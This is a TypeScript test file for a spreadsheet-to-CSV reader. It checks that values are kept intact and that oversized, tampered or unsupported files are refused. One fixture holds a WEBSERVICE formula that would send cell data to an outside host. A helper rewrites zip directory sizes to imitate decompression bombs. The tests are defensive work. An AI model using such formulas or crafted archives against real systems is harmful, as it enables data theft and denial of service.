import { strToU8, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { fileOf, number, sheet, text, workbook } from '../../testing/workbooks.ts';
import { readTable } from './tableFile.ts';

const csvOf = async (file: File) => {
  const read = await readTable(file);
  return 'table' in read ? read.table.text() : read.fault;
};

test('a workbook is read as a table of text: digits, accents and quotation marks as they are, under its own name', async () => {
  const rows = [
    [text('Number'), text('Surname'), text('Phone')],
    [text('0042'), text('Ọ̀ṣun "Ada"'), text('+2348030000001')],
    [number('123456789012345'), text('Bello, A.'), number('2.348030000001E12')],
  ];
  const read = await readTable(workbook([sheet(rows)]));
  if (!('table' in read)) throw new Error(read.fault);
  expect(read.table.name).toBe('students.xlsx');
  expect(await read.table.text()).toBe(
    '"Number","Surname","Phone"\r\n"0042","Ọ̀ṣun ""Ada""","+2348030000001"\r\n"123456789012345","Bello, A.","2348030000001"\r\n',
  );
});

test('a table in CSV stays as it is', async () => {
  const file = new File(['a,b\n1,2\n'], 'list.csv');
  expect(await readTable(file)).toEqual({ table: file });
});

describe('in a workbook', () => {
  test('a formula is never run: the cell has the value with which it was saved [A359]', async () => {
    const saved = '<c t="str"><f>WEBSERVICE("https://example.org/"&amp;A1)</f><v>saved</v></c>';
    expect(await csvOf(workbook([sheet([[text('a'), saved]])]))).toBe('"a","saved"\r\n');
  });

  test('text like a formula stays text', async () => {
    expect(await csvOf(workbook([sheet([[text('=1+1')]])]))).toBe('"=1+1"\r\n');
  });

  test('a number that the spreadsheet took for a date passes for no voter number', async () => {
    expect(await csvOf(workbook([sheet([[text('a'), number('46085', 1)]])]))).toBe('"a","2026.03.04"\r\n');
  });

  test('a number that has lost digits is refused', async () => {
    expect(await csvOf(workbook([sheet([[number('1.23456789012346E15')]])]))).toBe('long-number');
  });

  test('two sheets with rows are refused, and an empty one beside the table is not', async () => {
    const one = sheet([[text('a')]]);
    expect(await csvOf(workbook([one, one]))).toBe('several-sheets');
    expect(await csvOf(workbook([sheet([]), one]))).toBe('"a"\r\n');
  });
});

describe('nothing is read of', () => {
  const rows = Array.from({ length: 1_000 }, () => [text('a')]);
  const claiming = async (size: number) =>
    fileOf(
      withSize(new Uint8Array(await workbook([sheet(rows)]).arrayBuffer()), 'xl/worksheets/sheet1.xml', size),
    );

  test('a small file that unpacks to a large one [A359]', async () => {
    expect(await csvOf(await claiming(200 * 1024 * 1024))).toBe('too-large');
  });

  test('a sheet that unpacks to more than it says [A359]', async () => {
    expect(await csvOf(await claiming(200))).toBe('damaged');
  });

  test('more parts than a workbook has [A359]', async () => {
    const more = Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`xl/${i}.xml`, strToU8('<a/>')]));
    expect(await csvOf(workbook([sheet([[text('a')]])], more))).toBe('too-large');
  });

  test('a file above the limit', async () => {
    const file = workbook([sheet([[text('a')]])], {
      'xl/more.bin': [new Uint8Array(9 * 1024 * 1024), { level: 0 }],
    });
    expect(await csvOf(file)).toBe('too-large');
  });

  test.each([
    [
      'an OpenDocument file',
      zipSync({ mimetype: strToU8('application/vnd.oasis.opendocument.spreadsheet') }),
      'document',
    ],
    ['an older Excel file', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1]), 'document'],
    ['a PDF', strToU8('%PDF-1.7'), 'document'],
    ['an archive cut short', new Uint8Array([0x50, 0x4b, 3, 4, 0, 0]), 'damaged'],
  ])('%s', async (_, bytes, fault) => {
    expect(await csvOf(fileOf(bytes))).toBe(fault);
  });

  test('a workbook without rows', async () => {
    expect(await csvOf(workbook([sheet([])]))).toBe('damaged');
  });
});

/** Changes the size that the archive's directory states for a part. */
function withSize(bytes: Uint8Array, name: string, size: number): Uint8Array {
  const changed = bytes.slice();
  const view = new DataView(changed.buffer);
  for (let at = 0; at < changed.length - 46; at++) {
    if (view.getUint32(at, true) !== 0x02014b50) continue;
    const length = view.getUint16(at + 28, true);
    if (new TextDecoder().decode(changed.subarray(at + 46, at + 46 + length)) === name)
      view.setUint32(at + 24, size, true);
  }
  return changed;
}
